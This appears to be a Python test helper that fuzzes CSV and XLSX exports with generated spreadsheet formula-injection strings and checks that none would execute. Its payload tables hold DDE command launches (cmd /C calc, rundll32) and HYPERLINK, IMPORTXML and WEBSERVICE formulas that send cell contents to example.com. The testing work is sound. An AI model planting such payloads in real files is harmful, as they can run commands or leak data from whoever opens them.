"""Texts that a spreadsheet might run, and whether one of them became a formula in a file."""

from __future__ import annotations

import csv
import io
import random
import re
import zipfile
from pathlib import Path

from python_calamine import CalamineWorkbook

_SIGNS = (
    "=",
    "+",
    "-",
    "@",
    "＝",
    "＋",
    "－",
    "＠",
    "=+",
    "=-",
    "+=",
    "@@",
    "\t=",
    "\r=",
    "\n=",
    "|=",
)
_BEFORE = (
    *("", " ", "  ", "\t", "\n", "\r\n", "\u00a0", "\u200b", "\ufeff", "\u2003"),
    *("'", '"', ";", ","),
)
_CALLS = (
    "1+1",
    "SUM(A1:A9)",
    "cmd|' /C calc'!A0",
    'HYPERLINK("http://example.com?"&A1,"x")',
    'IMPORTXML(CONCAT("http://example.com/",A1),"//a")',
    'DDE("cmd";"/C calc";"x")',
    'WEBSERVICE("http://example.com")',
    "2+3*cmd|' /C notepad'!A0",
    "rundll32|'URL.dll,OpenURL x'!A",
    "{=1+1}",
    "A1",
)
_AFTER = (
    *("", " ", "\n", ";=1+1", '";=1+1', "\r\n=1+1", "_x003D_", "<f>1+1</f>", "]]>", "&#61;"),
    *("é€😀", "\u202e"),
)
_RUNS = re.compile(r"[\s\u200b-\u200f\ufeff]*[=+\-@＝＋－＠]")
_NUMBER = re.compile(r"[+-]?[\d.,]+%?")


def hostile_texts(draw: random.Random, count: int) -> list[str]:
    """So many texts, each put together anew; none is empty."""
    return [_hostile(draw) for _ in range(count)]


def _hostile(draw: random.Random) -> str:
    if draw.random() < 0.1:  # anything at all that a text may hold
        length = draw.randrange(1, 40)
        letters = "".join(chr(draw.randrange(1, 0x2FFF)) for _ in range(length))
        return draw.choice(_SIGNS) + letters
    return "".join(draw.choice(part) for part in (_BEFORE, _SIGNS, _CALLS, _AFTER))


def formulas_in_csv(file: Path, texts: list[str]) -> list[str]:
    """The texts that a spreadsheet would run in the last column of ``file``, or that are not there.

    A text is there when its cell holds it, with or without an apostrophe before it.
    """
    read = file.read_bytes().decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(read, newline=""), delimiter=";"))[1:]
    if len(rows) != len(texts):
        return [f"{len(rows)} rows for {len(texts)} texts"]
    wrong = []
    for row, text in zip(rows, texts, strict=True):
        cell = row[-1]
        runs = _RUNS.match(cell) and not _NUMBER.fullmatch(cell)
        if runs or (cell.removeprefix("'") != text and cell != text):
            wrong.append(repr(cell))
    return wrong


def formulas_in_xlsx(file: Path, texts: list[str]) -> list[str]:
    """The same for a workbook, whose cells must be the texts as they are."""
    with zipfile.ZipFile(file) as pack:
        parts = {name: pack.read(name).decode() for name in pack.namelist()}
    wrong = [name for name, part in parts.items() if re.search(r"<f[ >]|<hyperlink|ddeLink", part)]
    rows = CalamineWorkbook.from_path(str(file)).get_sheet_by_index(0).to_python()[1:]
    if len(rows) != len(texts):
        return [*wrong, f"{len(rows)} rows for {len(texts)} texts"]
    pairs = zip(rows, texts, strict=True)
    return wrong + [repr(row[-1]) for row, text in pairs if str(row[-1]) != text]
